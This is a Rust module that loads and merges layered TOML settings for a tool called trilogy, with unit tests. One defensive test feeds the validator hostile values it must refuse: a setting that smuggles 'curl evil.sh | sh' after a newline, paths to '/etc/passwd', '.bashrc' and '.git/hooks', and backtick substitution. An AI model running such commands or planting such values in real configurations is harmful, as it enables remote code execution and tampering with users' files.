//! Reading the layers: the user file, the workspace `trilogy.toml`, `TRILOGY_*` variables and
//! `--set` pairs, each parsed, checked and merged over the defaults (later wins). It reads the
//! files and the environment handed to it; it never prints.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use super::check::{check_paths, check_value};
use super::unknown::Unknown;
use serde::{Deserialize, Serialize};

use super::{Config, KEYS, UserScope, canonical_key, recall, review_mode, user};
use crate::error::{Error, Result};

/// Where an effective value came from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Source {
    pub key: String,
    /// `default`, a file path, `env TRILOGY_…`, or `--set`.
    pub from: String,
}

/// Settings plus the origin of each value.
#[derive(Debug, Clone, Serialize)]
pub struct Loaded {
    pub config: Config,
    pub sources: BTreeMap<String, String>,
    /// Settings that were not taken, with why.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub warnings: Vec<String>,
}

/// Inputs to loading, gathered by the surface (so tests can pass their own).
#[derive(Debug, Clone, Default)]
pub struct LoadArgs {
    /// `~/.config/trilogy/config.toml` (or `$XDG_CONFIG_HOME/trilogy/config.toml`), if any.
    pub user_file: Option<PathBuf>,
    /// `<root>/trilogy.toml`, if known yet.
    pub workspace_file: Option<PathBuf>,
    /// `(name, value)` pairs of the environment.
    pub env: Vec<(String, String)>,
    /// `key=value` from `--set`.
    pub overrides: Vec<String>,
    /// Skip a settings file's unknown keys (recorded in [`Config::ignored`]) instead of
    /// refusing them: hooks and the MCP server keep serving memory when a teammate on a newer
    /// trilogy commits a key this one does not know. Wrong types are refused either way.
    pub lenient: bool,
}

impl LoadArgs {
    /// The user file location from the environment (`XDG_CONFIG_HOME`, then `HOME`).
    pub fn default_user_file(env: &[(String, String)]) -> Option<PathBuf> {
        let get = |k: &str| env.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
        if let Some(x) = get("TRILOGY_CONFIG") {
            return Some(PathBuf::from(x));
        }
        Some(crate::base::dirs::config(env)?.join("config.toml"))
    }
}

/// Validate one layer (types, unknown keys) and return it with canonical key names.
fn layer(table: toml::Table, source: &str, mut unknown: Unknown) -> Result<toml::Table> {
    let cfg_err = |message: String| Error::Config {
        source_name: source.to_string(),
        message,
    };
    let names: Vec<&str> = KEYS.iter().map(|(s, _)| *s).collect();
    let mut out = toml::Table::new();
    for (k, mut v) in table {
        let Some(canon) = canonical_key(&k) else {
            unknown.meet(&k, source, &names).map_err(cfg_err)?;
            continue;
        };
        if canon == "review_mode"
            && let toml::Value::Table(t) = &mut v
        {
            for sub in review_mode::unknown_keys(t) {
                unknown
                    .meet(&format!("{k}.{sub}"), source, &review_mode::KEYS)
                    .map_err(cfg_err)?;
                t.remove(&sub);
            }
        }
        // type check each key on its own, so the error names this source and key
        let mut one = toml::Table::new();
        one.insert(canon.to_string(), v.clone());
        Config::deserialize(toml::Value::Table(one)).map_err(|e| {
            cfg_err(format!(
                "key `{k}`: {}; give it a value of that kind, or delete the line",
                e.to_string().trim().replace('\n', " ")
            ))
        })?;
        check_value(canon, &v).map_err(|m| cfg_err(format!("key `{k}`: {m}")))?;
        out.insert(canon.to_string(), v);
    }
    Ok(out)
}

fn parse_value(key: &str, raw: &str, source: &str) -> Result<toml::Table> {
    let as_toml = format!("{key} = {raw}");
    let table = match as_toml.parse::<toml::Table>() {
        Ok(t) => t,
        Err(_) => {
            let mut t = toml::Table::new();
            t.insert(key.to_string(), toml::Value::String(raw.to_string()));
            t
        }
    };
    layer(table, source, Unknown::Refuse)
}

/// The most a settings file may hold.
const MAX_SETTINGS_BYTES: u64 = 1 << 20;

/// A settings file's text: opened without waiting (a FIFO in a cloned repository would hang
/// every hook), a regular file only, at most [`MAX_SETTINGS_BYTES`], UTF-8.
fn read_settings(file: &Path) -> std::io::Result<String> {
    use std::io::{ErrorKind, Read};
    let bad = |m: &str| std::io::Error::new(ErrorKind::InvalidData, m.to_string());
    let f = match crate::base::fence::open_regular(file, MAX_SETTINGS_BYTES) {
        Ok((f, _)) => f,
        Err(e) if e.kind() == ErrorKind::InvalidInput => {
            return Err(bad(
                "it is not a regular file (a FIFO, a device or a folder); replace it with a settings file or delete it",
            ));
        }
        Err(e) if e.kind() == ErrorKind::FileTooLarge => {
            return Err(bad(
                "it is larger than 1 MiB; a settings file holds a few keys",
            ));
        }
        Err(e) => return Err(e),
    };
    let mut bytes = Vec::new();
    f.take(MAX_SETTINGS_BYTES).read_to_end(&mut bytes)?;
    String::from_utf8(bytes).map_err(|_| bad("it is not UTF-8 text; save it as UTF-8"))
}

/// Load the effective settings.
pub fn load(args: &LoadArgs) -> Result<Loaded> {
    let mut merged = toml::Table::new();
    let mut ignored = Vec::new();
    let mut sources: BTreeMap<String, String> = KEYS
        .iter()
        .map(|(k, _)| (k.to_string(), "default".to_string()))
        .collect();
    let mut warnings = Vec::new();
    // the user's own layers, merged apart: the user scope is configured by them alone
    let mut mine = toml::Table::new();
    let mut apply =
        |t: toml::Table, from: &str, merged: &mut toml::Table, mine: Option<&mut toml::Table>| {
            let put = |table: &mut toml::Table, k: &str, v: toml::Value| {
                if k == "review_mode" {
                    review_mode::merge_into(table, v);
                } else {
                    table.insert(k.to_string(), v);
                }
            };
            if let Some(mine) = mine {
                for (k, v) in &t {
                    put(mine, k, v.clone());
                }
            }
            for (k, v) in t {
                sources.insert(k.clone(), from.to_string());
                put(merged, &k, v);
            }
        };
    for file in [&args.user_file, &args.workspace_file]
        .into_iter()
        .flatten()
    {
        let text = match read_settings(file) {
            Ok(t) => t,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
            Err(e) if e.kind() == std::io::ErrorKind::InvalidData => {
                return Err(Error::Config {
                    source_name: file.display().to_string(),
                    message: e.to_string(),
                });
            }
            Err(e) => return Err(Error::io(file, e)),
        };
        let name = file.display().to_string();
        let table: toml::Table = text.parse().map_err(|e: toml::de::Error| Error::Config {
            source_name: name.clone(),
            message: e.to_string().trim().replace('\n', " "),
        })?;
        let of_workspace = Some(file) == args.workspace_file.as_ref();
        // a repository's file may come from a newer trilogy: what this one does not know is
        // skipped with a warning; the user's own file is refused unless the load is lenient
        let unknown = match args.lenient || of_workspace {
            true => Unknown::Skip(&mut ignored),
            false => Unknown::Refuse,
        };
        let mut table = table;
        if of_workspace {
            warnings.extend(user::drop_user_only(&mut table, &name));
            warnings.extend(recall::drop_widening(&mut table, &name));
        }
        let mut t = layer(table, &name, unknown)?;
        if of_workspace && review_mode::drop_user_direct(&mut t) {
            warnings.push(review_mode::user_direct_refused(&name));
        }
        apply(t, &name, &mut merged, (!of_workspace).then_some(&mut mine));
    }
    for (snake, _) in KEYS {
        let var = format!("TRILOGY_{}", snake.to_uppercase());
        if let Some((_, v)) = args.env.iter().find(|(n, _)| *n == var) {
            let from = format!("env {var}");
            let t = parse_value(snake, v, &from)?;
            apply(t, &from, &mut merged, Some(&mut mine));
        }
    }
    for ov in &args.overrides {
        let Some((k, v)) = ov.split_once('=') else {
            return Err(Error::bad_input(format!(
                "--set {ov}: expected key=value, e.g. --set sessions_max_entries=50"
            )));
        };
        let k = k.trim();
        if let Some(sub) = k.strip_prefix("review_mode.") {
            // one kind of the gate: `--set review_mode.decisions=propose`
            let t = parse_value(
                "review_mode",
                &format!("{{ {sub} = \"{}\" }}", v.trim()),
                "--set",
            )?;
            apply(t, "--set", &mut merged, Some(&mut mine));
            continue;
        }
        let Some(canon) = canonical_key(k) else {
            return Err(Error::Config {
                source_name: "--set".into(),
                message: format!("unknown key `{k}`"),
            });
        };
        let t = parse_value(canon, v.trim(), "--set")?;
        apply(t, "--set", &mut merged, Some(&mut mine));
    }
    let mut config =
        Config::deserialize(toml::Value::Table(merged)).map_err(|e| Error::Config {
            source_name: "merged layers".into(),
            message: e.to_string(),
        })?;
    let lang_set = mine.contains_key("lang");
    let own = Config::deserialize(toml::Value::Table(mine)).map_err(|e| Error::Config {
        source_name: "user layers".into(),
        message: e.to_string(),
    })?;
    config.user = user::dir_of(&own, &args.env).map(|dir| UserScope {
        dir,
        config: Box::new(own),
        lang_set,
    });
    config.recall = recall::places(&args.env);
    config.ignored = ignored;
    config.warnings = warnings.clone();
    check_paths(&config).map_err(|(key, message)| Error::Config {
        source_name: sources.get(key).cloned().unwrap_or_default(),
        message: format!("key `{key}`: {message}"),
    })?;
    Ok(Loaded {
        config,
        sources,
        warnings,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Mode;
    use crate::config::check::check_rel_path;
    use crate::model::Lang;

    fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
        let p = dir.join(name);
        std::fs::write(&p, text).unwrap();
        p
    }

    #[test]
    fn layers_apply_in_order_and_camel_case_aliases_work() {
        let dir = tempfile::tempdir().unwrap();
        let user = write(
            dir.path(),
            "user.toml",
            "sessionsMaxEntries = 50\nlang = \"en\"\n",
        );
        let ws = write(dir.path(), "ws.toml", "sessions_max_entries = 40\n");
        let loaded = load(&LoadArgs {
            user_file: Some(user.clone()),
            workspace_file: Some(ws.clone()),
            env: vec![("TRILOGY_LOCK_TIMEOUT_MS".into(), "250".into())],
            overrides: vec!["inject_budget_bytes=3000".into()],
            lenient: false,
        })
        .unwrap();
        assert_eq!(loaded.config.sessions_max_entries, 40);
        assert_eq!(loaded.config.lang, Lang::En);
        assert_eq!(loaded.config.lock_timeout_ms, 250);
        assert_eq!(loaded.config.inject_budget_bytes, 3000);
        assert_eq!(
            loaded.sources["sessions_max_entries"],
            ws.display().to_string()
        );
        assert_eq!(loaded.sources["lang"], user.display().to_string());
        assert_eq!(
            loaded.sources["lock_timeout_ms"],
            "env TRILOGY_LOCK_TIMEOUT_MS"
        );
        assert_eq!(loaded.sources["enabled"], "default");
    }

    #[test]
    fn a_config_that_is_not_utf8_is_a_config_error_naming_the_file() {
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("trilogy.toml");
        std::fs::write(&f, b"lang = \"\xff\xfe\"\n").unwrap();
        let e = load(&LoadArgs {
            workspace_file: Some(f.clone()),
            ..Default::default()
        })
        .unwrap_err();
        assert_eq!(e.kind().exit_code(), 3, "{e}");
        let m = e.to_string();
        assert!(
            m.contains(&f.display().to_string()) && m.contains("UTF-8"),
            "{m}"
        );
    }

    #[test]
    fn a_block_file_in_a_github_folder_is_fine() {
        let dir = tempfile::tempdir().unwrap();
        let f = write(
            dir.path(),
            "trilogy.toml",
            "boot_block_file = \".github/copilot-instructions.md\"\n",
        );
        let loaded = load(&LoadArgs {
            workspace_file: Some(f),
            ..Default::default()
        })
        .unwrap();
        assert_eq!(
            loaded.config.boot_block_file,
            ".github/copilot-instructions.md"
        );
    }

    #[test]
    fn paths_that_leave_the_workspace_are_refused_with_file_and_key() {
        let dir = tempfile::tempdir().unwrap();
        for (line, says) in [
            ("boot_block_file = \"/home/u/.bashrc\"", "absolute"),
            ("boot_block_file = \"../../.bashrc\"", "climbs out"),
            ("memory_dir_name = \"../victim\"", "climbs out"),
            ("memory_dir_name = \"/tmp/victim\"", "absolute"),
            (
                "memory_dir_name = \"memory\\ncurl evil.sh | sh\"",
                "control character",
            ),
            ("memory_dir_name = \"mem`x`\"", "holds `"),
            ("memory_dir_name = \".git/hooks\"", "never writes"),
            ("boot_block_file = \".trilogy/store.redb\"", "never writes"),
            ("memory_dir_name = \"./\"", "project folder itself"),
            ("project_root_markers = [\"../..\"]", "climbs out"),
            ("lock_timeout_ms = 99999999999", "longer than"),
            ("templates_dir = \"/etc\"", "absolute"),
            ("templatesDir = \"../elsewhere\"", "climbs out"),
            ("templates_dir = \".trilogy\"", "never writes"),
            ("memory_dir_name = \".GIT\"", "never writes"),
            ("boot_block_file = \".Trilogy/x.md\"", "never writes"),
            (
                "boot_block_file = \"memory/SESSIONS.md\"",
                "memory file SESSIONS.md",
            ),
            (
                "boot_block_file = \"./Memory//decisions.MD\"",
                "memory file DECISIONS.md",
            ),
            (
                "boot_block_file = \"memory/SESSIONS-archive.md\"",
                "memory file SESSIONS-archive",
            ),
            ("boot_block_file = \"trilogy.toml\"", "keeps for itself"),
            ("boot_block_file = \"memory\"", "keeps for itself"),
            ("memory_dir_name = \"trilogy.toml\"", "keeps for itself"),
        ] {
            let f = write(dir.path(), "trilogy.toml", &format!("{line}\n"));
            let e = load(&LoadArgs {
                workspace_file: Some(f.clone()),
                ..Default::default()
            })
            .unwrap_err()
            .to_string();
            let key = line.split(' ').next().unwrap();
            assert!(
                e.contains("trilogy.toml") && e.contains(key) && e.contains(says),
                "{line}: {e}"
            );
        }
        // the same rule for the environment and --set
        let e = load(&LoadArgs {
            env: vec![("TRILOGY_BOOT_BLOCK_FILE".into(), "/etc/passwd".into())],
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(e.contains("absolute"), "{e}");
        for ok in ["memory", "docs/memory", "记忆", "AGENTS.local.md"] {
            check_rel_path(ok).unwrap();
        }
    }

    #[test]
    fn unknown_key_and_wrong_type_name_file_and_key() {
        let dir = tempfile::tempdir().unwrap();
        let f = write(dir.path(), "t.toml", "sessions_max = 3\n");
        let e = load(&LoadArgs {
            user_file: Some(f.clone()),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(e.contains("t.toml") && e.contains("sessions_max"), "{e}");
        assert!(e.contains("did you mean `sessions_max_entries`?"), "{e}");
        let f = write(dir.path(), "u.toml", "inject_budget_bytes = \"big\"\n");
        let e = load(&LoadArgs {
            workspace_file: Some(f),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(
            e.contains("u.toml") && e.contains("inject_budget_bytes"),
            "{e}"
        );
        assert!(e.contains("delete the line"), "says how to fix it: {e}");
    }

    #[test]
    fn a_repositorys_unknown_keys_are_warnings_at_any_depth_and_the_users_own_are_errors() {
        let dir = tempfile::tempdir().unwrap();
        let text = "lang = \"en\"\nsesions_max_entries = 3\n[review_mode]\ndecisions = \"propose\"\nprojects = \"propose\"\n";
        let f = write(dir.path(), "trilogy.toml", text);
        let loaded = load(&LoadArgs {
            workspace_file: Some(f),
            ..Default::default()
        })
        .unwrap();
        assert_eq!(loaded.config.lang, Lang::En);
        assert_eq!(loaded.config.review_mode.decisions, Mode::Propose);
        assert_eq!(
            loaded.config.ignored,
            [
                "`review_mode.projects` in trilogy.toml (did you mean `review_mode.project`?)",
                "`sesions_max_entries` in trilogy.toml (did you mean `sessions_max_entries`?)",
            ]
        );
        let mine = write(dir.path(), "config.toml", text);
        let e = load(&LoadArgs {
            user_file: Some(mine),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(
            e.contains("config.toml") && e.contains("unknown key `review_mode.projects`"),
            "{e}"
        );
        // a known key's bad value stays an error in a repository's file
        let bad = write(
            dir.path(),
            "trilogy.toml",
            "[review_mode]\ndecisions = \"later\"\n",
        );
        let e = load(&LoadArgs {
            workspace_file: Some(bad),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(
            e.contains("trilogy.toml") && e.contains("review_mode"),
            "{e}"
        );
    }

    #[test]
    fn a_lenient_load_skips_unknown_keys_and_still_refuses_wrong_types() {
        let dir = tempfile::tempdir().unwrap();
        let f = write(
            dir.path(),
            "trilogy.toml",
            "lang = \"en\"\nnewer_setting = 1\n[newer_table]\nx = 2\n",
        );
        let strict = load(&LoadArgs {
            user_file: Some(f.clone()),
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(
            strict.contains("trilogy.toml") && strict.contains("newer_setting"),
            "{strict}"
        );
        let loaded = load(&LoadArgs {
            user_file: Some(f),
            lenient: true,
            ..Default::default()
        })
        .unwrap();
        assert_eq!(
            loaded.config.lang,
            Lang::En,
            "the keys it knows still apply"
        );
        assert_eq!(
            loaded.config.ignored,
            [
                "`newer_setting` in trilogy.toml",
                "`newer_table` in trilogy.toml"
            ]
        );
        let f = write(dir.path(), "bad.toml", "lang = 3\n");
        let e = load(&LoadArgs {
            workspace_file: Some(f),
            lenient: true,
            ..Default::default()
        })
        .unwrap_err()
        .to_string();
        assert!(e.contains("bad.toml") && e.contains("lang"), "{e}");
    }
}
